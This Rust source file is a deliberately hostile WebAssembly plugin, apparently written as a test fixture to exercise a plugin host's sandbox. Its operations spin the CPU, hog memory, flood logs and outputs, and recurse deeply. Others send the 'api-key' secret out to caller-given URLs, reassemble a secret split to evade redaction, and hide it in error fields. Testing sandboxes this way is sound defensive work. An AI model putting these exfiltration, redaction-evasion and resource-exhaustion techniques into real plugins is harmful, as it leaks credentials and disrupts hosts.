//! A plugin that misbehaves on purpose, one operation per way of misbehaving. It is written
//! against the raw WIT bindings, not the SDK, as a hostile author would: it controls its exports'
//! bytes exactly (output that is not JSON, output that lies about its schema).
#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]

#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code, reason = "generated canonical-ABI glue")]
mod guest {
    wit_bindgen::generate!({ world: "plugin", path: "../../../wit" });

    use std::hint::black_box;
    use weft::plugin::http::{self, Method, Request};
    use weft::plugin::types::{Capabilities, Operation, PermanentError};

    struct Hostile;

    const OPERATIONS: &[&str] = &[
        "spin",
        "hog",
        "flood",
        "panic",
        "recurse",
        "sneak",
        "exfil-query",
        "exfil-echo",
        "not-json",
        "lie",
        "nul",
        "nul-error",
        "ok",
        "flood-refused-calls",
        "log-flood-empty",
        "log-huge",
        "nul-url",
        "many-headers",
        "send",
        "reassemble",
        "stderr-flood",
        "deep-output",
        "resend",
    ];

    /// `reassemble` declares an integer `count`, so that a secret put there is quoted back by the
    /// schema violation.
    const COUNT_SCHEMA: &str = r#"{"type":"object","properties":{"count":{"type":"integer"}}}"#;
    /// `deep-output` declares a recursive schema: arrays of arrays, without end.
    const NESTED_SCHEMA: &str =
        r##"{"$defs":{"n":{"type":"array","items":{"$ref":"#/$defs/n"}}},"$ref":"#/$defs/n"}"##;

    impl Guest for Hostile {
        fn describe() -> Manifest {
            let any = r#"{"type":"object"}"#.to_string();
            Manifest {
                name: "hostile".into(),
                version: "0.1.0".into(),
                description: "Misbehaves on purpose".into(),
                operations: OPERATIONS
                    .iter()
                    .map(|name| Operation {
                        name: (*name).into(),
                        description: String::new(),
                        input_schema: any.clone(),
                        // `lie` declares an object with a required integer and returns otherwise.
                        output_schema: match *name {
                            "lie" => r#"{"type":"object","required":["count"],"properties":{"count":{"type":"integer"}}}"#.into(),
                            "reassemble" => COUNT_SCHEMA.into(),
                            "deep-output" => NESTED_SCHEMA.into(),
                            _ => "{}".into(),
                        },
                        compensated_by: None,
                    })
                    .collect(),
                capabilities: Capabilities {
                    outbound_hosts: vec![],
                    secrets: vec!["api-key".into()],
                    config_keys: vec![],
                },
            }
        }

        fn invoke(operation: String, input: String) -> Result<String, PluginError> {
            let arg: serde_json::Value = serde_json::from_str(&input).unwrap_or_default();
            let url = arg["url"].as_str().unwrap_or_default().to_string();
            match operation.as_str() {
                "spin" => {
                    let mut n: u64 = 0;
                    loop {
                        n = black_box(n.wrapping_add(1));
                    }
                }
                "hog" => {
                    let mut hoard: Vec<Vec<u8>> = Vec::new();
                    loop {
                        hoard.push(black_box(vec![1u8; 1 << 20]));
                        black_box(&hoard);
                    }
                }
                "flood" => {
                    let bytes = arg["bytes"].as_u64().unwrap_or(64 << 20) as usize;
                    Ok(format!("\"{}\"", "x".repeat(bytes)))
                }
                "panic" => panic!("the hostile plugin gave up on purpose"),
                "recurse" => Ok(recurse(0, arg["depth"].as_u64().unwrap_or(u64::MAX)).to_string()),
                "sneak" => send(Method::Get, &url, None).map(|r| r.to_string()),
                "exfil-query" => send(
                    Method::Get,
                    &format!("{url}?key={{{{secret:api-key}}}}"),
                    None,
                )
                .map(|r| r.to_string()),
                "exfil-echo" => {
                    // The echo server sends the substituted secret back; output it.
                    send(
                        Method::Post,
                        &url,
                        Some(b"stolen={{secret:api-key}}".to_vec()),
                    )
                    .map(|body| serde_json::json!({ "body": body }).to_string())
                }
                "not-json" => Ok("this is { not json".into()),
                "lie" => Ok(r#"{"count":"many"}"#.into()),
                // U+0000, which PostgreSQL cannot store, in an output and in an error message.
                "nul" => Ok(r#"{"name":"a\u0000b"}"#.into()),
                "nul-error" => Err(PluginError::Permanent(PermanentError {
                    code: "nul".into(),
                    message: "before\0after".into(),
                })),
                "ok" => Ok(r#"{"ok":true}"#.into()),
                // Host-side floods: each call is cheap for the guest; the host must not keep one
                // record (or one log line) per call.
                "flood-refused-calls" => {
                    let calls = arg["calls"].as_u64().unwrap_or(1_000_000);
                    let mut refused = 0u64;
                    for _ in 0..calls {
                        if send(Method::Get, &url, None).is_err() {
                            refused += 1;
                        }
                    }
                    Ok(serde_json::json!({ "refused": refused }).to_string())
                }
                "log-flood-empty" => {
                    let lines = arg["lines"].as_u64().unwrap_or(10_000_000);
                    for _ in 0..lines {
                        weft::plugin::log::log(weft::plugin::log::Level::Info, "");
                    }
                    Ok(r#"{"ok":true}"#.into())
                }
                "log-huge" => {
                    let bytes = arg["bytes"].as_u64().unwrap_or(32 << 20) as usize;
                    let line = "x".repeat(bytes);
                    for _ in 0..arg["times"].as_u64().unwrap_or(1) {
                        weft::plugin::log::log(weft::plugin::log::Level::Info, &line);
                    }
                    Ok(r#"{"ok":true}"#.into())
                }
                // A well-behaved connector building a URL from a remote name holding U+0000.
                "nul-url" => send(Method::Get, &format!("{url}?name=a\u{0}b"), None)
                    .map(|_| r#"{"ok":true}"#.into()),
                "many-headers" => {
                    let count = arg["count"].as_u64().unwrap_or(30_000);
                    let headers = (0..count)
                        .map(|i| (format!("x-h{i}"), "v".into()))
                        .collect();
                    send_with(Method::Get, &url, headers, None).map(|r| r.to_string())
                }
                // Any request, from the input: `headers` as [[name, value]], `body` repeated
                // `repeat` times (placeholders included).
                "send" => {
                    let repeat = arg["repeat"].as_u64().unwrap_or(1) as usize;
                    let headers = arg["headers"]
                        .as_array()
                        .into_iter()
                        .flatten()
                        .map(|h| {
                            let value = h[1].as_str().unwrap_or_default().repeat(repeat);
                            (h[0].as_str().unwrap_or_default().to_string(), value)
                        })
                        .collect();
                    let body = arg["body"].as_str().map(|b| b.repeat(repeat).into_bytes());
                    send_with(Method::Post, &url, headers, body)
                        .map(|r| serde_json::json!({ "body": r }).to_string())
                }
                // The remote echoes the secret split by spaces (which redaction cannot
                // recognise); the plugin joins it again and hides it where asked.
                "reassemble" => {
                    let split = send(Method::Post, &url, Some(b"{{secret:api-key}}".to_vec()))?;
                    let secret: String = split.split(' ').collect();
                    let escaped: String = secret
                        .chars()
                        .map(|c| format!("\\u{:04x}", c as u32))
                        .collect();
                    let permanent = |code: String, message: String| {
                        Err(PluginError::Permanent(PermanentError { code, message }))
                    };
                    match arg["into"].as_str().unwrap_or_default() {
                        "code" => permanent(secret, "see the code".into()),
                        "message" => permanent("leak".into(), format!("it is {secret}")),
                        "field" => Err(PluginError::InvalidInput(
                            weft::plugin::types::InvalidInputError {
                                message: "bad".into(),
                                field: Some(format!("a.{secret}")),
                            },
                        )),
                        "retryable" => Err(PluginError::Retryable(
                            weft::plugin::types::RetryableError {
                                message: format!("it is {secret}"),
                                retry_after_ms: None,
                            },
                        )),
                        "escaped" => Ok(format!(r#"{{"text":"{escaped}","{escaped}":1}}"#)),
                        "schema" => Ok(serde_json::json!({ "count": secret }).to_string()),
                        _ => Ok(serde_json::json!({ "text": secret }).to_string()),
                    }
                }
                // Rust's `eprint!` panics when stderr refuses a write: more than the host keeps
                // must not turn a successful attempt into a trap.
                "stderr-flood" => {
                    let bytes = arg["bytes"].as_u64().unwrap_or(64 << 10) as usize;
                    eprint!("{}", "e".repeat(bytes));
                    Ok(r#"{"ok":true}"#.into())
                }
                // The same request `times` times, whatever each call answers: many host calls,
                // each as expensive for the host as the remote can make it.
                "resend" => {
                    let headers = arg["headers"]
                        .as_array()
                        .into_iter()
                        .flatten()
                        .map(|h| {
                            let name = h[0].as_str().unwrap_or_default().to_string();
                            (name, h[1].as_str().unwrap_or_default().to_string())
                        })
                        .collect::<Vec<_>>();
                    let body = arg["body"].as_str().map(|b| b.as_bytes().to_vec());
                    let mut answered = 0u64;
                    for _ in 0..arg["times"].as_u64().unwrap_or(1) {
                        if send_with(Method::Post, &url, headers.clone(), body.clone()).is_ok() {
                            answered += 1;
                        }
                    }
                    Ok(serde_json::json!({ "answered": answered }).to_string())
                }
                "deep-output" => {
                    let depth = arg["depth"].as_u64().unwrap_or(100) as usize;
                    Ok(format!("{}{}", "[".repeat(depth), "]".repeat(depth)))
                }
                other => Err(PluginError::Permanent(PermanentError {
                    code: "unknown".into(),
                    message: format!("no operation {other}"),
                })),
            }
        }
    }

    /// Recursion on the wasm stack itself: no local has its address taken, so nothing goes to
    /// the shadow stack in linear memory, and the result mixes in non-associatively so LLVM
    /// cannot turn it into a loop.
    fn recurse(n: u64, limit: u64) -> u64 {
        if n == limit {
            return n;
        }
        let r = recurse(n + 1, limit);
        r ^ (r >> 3) ^ n
    }

    fn send(method: Method, url: &str, body: Option<Vec<u8>>) -> Result<String, PluginError> {
        send_with(method, url, vec![], body)
    }

    fn send_with(
        method: Method,
        url: &str,
        headers: Vec<(String, String)>,
        body: Option<Vec<u8>>,
    ) -> Result<String, PluginError> {
        let request = Request {
            method,
            url: url.into(),
            headers,
            body,
            timeout_ms: None,
        };
        match http::send(&request) {
            Ok(r) => Ok(String::from_utf8_lossy(&r.body).into_owned()),
            Err(e) => Err(PluginError::Permanent(PermanentError {
                code: "http".into(),
                message: format!("{e:?}"),
            })),
        }
    }

    export!(Hostile);
}
